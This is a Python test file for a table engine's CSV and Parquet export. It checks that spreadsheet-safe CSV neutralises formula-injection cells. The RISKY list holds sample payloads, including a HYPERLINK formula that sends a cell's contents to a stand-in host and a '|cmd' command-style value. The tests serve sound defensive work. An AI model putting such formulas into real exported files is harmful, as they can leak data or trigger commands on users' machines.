"""CSV out: exact, or safe for spreadsheets."""

import csv
import datetime
import io

import pyarrow as pa
import pytest
from pyarrow import parquet

from beanft.engine.errors import EngineError
from beanft.engine.tables.columns import Column, Profile
from beanft.engine.tables.queries.conditions import Filter
from beanft.engine.tables.queries.export import csv_rows, write
from beanft.engine.tables.queries.formulas import safe_text
from beanft.engine.tables.queries.pages import Sort

RISKY = [
    "=1+1",
    " =1+1",
    "+1+2",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\rx",
    "|cmd",
    "%x",
    '=HYPERLINK("http://c/?"&A1)',
]
HARMLESS = ["-3", "+3.5", "-1e5", "-1,5", "a=b", "", "x@y", "3%"]


def written(cell: str, *, safe: bool) -> list[list[str]]:
    text = "".join(csv_rows(["a"], [[cell]], safe_for_spreadsheets=safe))
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell", RISKY)
def test_formulas_get_an_apostrophe_only_when_asked(cell):
    assert written(cell, safe=True) == [["a"], ["'" + cell]]
    assert written(cell, safe=False) == [["a"], [cell]]


@pytest.mark.parametrize("cell", HARMLESS)
def test_plain_numbers_and_texts_are_untouched(cell):
    assert list(csv_rows(["a", "b"], [[cell, 1]], safe_for_spreadsheets=True)) == list(
        csv_rows(["a", "b"], [[cell, 1]], safe_for_spreadsheets=False)
    )


def test_values_are_written_plainly():
    row = [None, True, -2, 0.1, datetime.date(2024, 1, 31), datetime.datetime(2024, 1, 31, 7, 5), 'a "b", c']
    lines = list(csv_rows([str(n) for n in range(7)], [row], safe_for_spreadsheets=True))
    assert lines == ["0,1,2,3,4,5,6\n", ',true,-2,0.1,2024-01-31,2024-01-31 07:05:00,"a ""b"", c"\n']


def test_the_header_is_made_safe_too():
    assert list(csv_rows(["=1"], [], safe_for_spreadsheets=True)) == ["'=1\n"]


SIGNS = "=+-@|%\t\r\n \xa0;,'\""
CELLS = [
    *(*RISKY, *HARMLESS, " -3 ", "\t-3", "-3\t", "\xa0=1", "\u2003=1", "\n=1", "\x1c+x", "\x85@"),
    *("\u3000%a", "\u200b=1", "\u2028\t=1", " \u2003\t", "--1", "+", "-", "-1e", "-.5", "-5.", "- 5"),
    *("\n-5\n", "-1,5e+10", "'=1", '"=1"', "=\0", "\u22125", "\uff1d1", "-\u0663", "\u1680|", "\u180e="),
    *("\ufeff=", "\r\n=1", "x\t=1", "=" * 5000, "🦀"),
    *(f"{sign}{rest}" for sign in SIGNS for rest in ("", "1", "a", " 1", "1 ", "1.5", "e5", "\t1")),
]  # fmt: skip


def stored(folder, cells):
    """A table with these texts, written past the reader, which would change some of them."""
    table = pa.table(
        {"text": pa.array([*cells, None]), "n": pa.array([*range(len(cells)), None], pa.int64())}
    )
    path = folder / "table.parquet"
    parquet.write_table(table, path)
    columns = (
        Column(name="text", kind="text", stored="VARCHAR", n_missing=1, n_distinct=9),
        Column(name="n", kind="number", stored="BIGINT", n_missing=1, n_distinct=9),
    )
    return path, Profile(n_rows=len(cells) + 1, columns=columns)


def test_the_engine_makes_cells_safe_exactly_as_we_do(tmp_path):
    path, profile = stored(tmp_path, CELLS)
    write(path, profile, tmp_path / "out.part", format="safe")
    with (tmp_path / "out.part").open(newline="", encoding="utf-8") as file:
        header, *rows = csv.reader(file)
    assert header == ["text", "n"]
    assert [row[0] for row in rows] == [*(safe_text(cell) for cell in CELLS), ""]
    assert [row[1] for row in rows[:-1]] == [str(n) for n in range(len(CELLS))]


def test_exact_csv_and_parquet_hold_the_same_rows_as_the_table(tmp_path):
    path, profile = stored(tmp_path, CELLS)
    write(path, profile, tmp_path / "out.csv", format="csv")
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
        assert [row[0] for row in csv.reader(file)] == ["text", *CELLS, ""]
    write(path, profile, tmp_path / "out.parquet", format="parquet")
    assert parquet.read_table(tmp_path / "out.parquet").equals(parquet.read_table(path))


def test_a_view_is_written_filtered_sorted_and_with_its_columns(tmp_path):
    path, profile = stored(tmp_path, ["b", "a", "c", "ab", ""])
    view = {"filters": [Filter("n", "at-most", "3")], "sorts": [Sort("text", True)], "search": "A"}
    write(path, profile, tmp_path / "out.csv", **view, columns=["n", "text"])
    assert (tmp_path / "out.csv").read_text() == "n,text\n3,ab\n1,a\n"


def test_missing_and_empty_differ_and_dates_are_iso(tmp_path):
    table = pa.table(
        {
            "t": ["", None],
            "f": [True, None],
            "d": pa.array([datetime.date(2024, 1, 31), None]),
            "m": pa.array([datetime.datetime(2024, 1, 31, 7, 5), None], pa.timestamp("us")),
            "x": [1.0, float("inf")],
        }
    )
    parquet.write_table(table, tmp_path / "t.parquet")
    kinds = {"t": "VARCHAR", "f": "BOOLEAN", "d": "DATE", "m": "TIMESTAMP", "x": "DOUBLE"}
    columns = tuple(
        Column(name=name, kind="text", stored=kind, n_missing=0, n_distinct=2) for name, kind in kinds.items()
    )
    write(tmp_path / "t.parquet", Profile(n_rows=2, columns=columns), tmp_path / "o.csv")
    lines = (tmp_path / "o.csv").read_text().splitlines()
    assert lines == ["t,f,d,m,x", '"",true,2024-01-31,2024-01-31 07:05:00,1.0', ",,,,inf"]


def test_nothing_is_left_when_writing_fails(tmp_path):
    path, profile = stored(tmp_path, ["a"] * 10)
    with pytest.raises(EngineError, match=r"Choose csv, safe or parquet\."):
        write(path, profile, tmp_path / "out", format="xlsx")
    with pytest.raises(EngineError):
        write(path, profile, tmp_path / "out", columns=["nothing"])
    path.write_bytes(path.read_bytes()[:-20])
    with pytest.raises(EngineError, match="lost or damaged"):
        write(path, profile, tmp_path / "out")
    assert not (tmp_path / "out").exists()
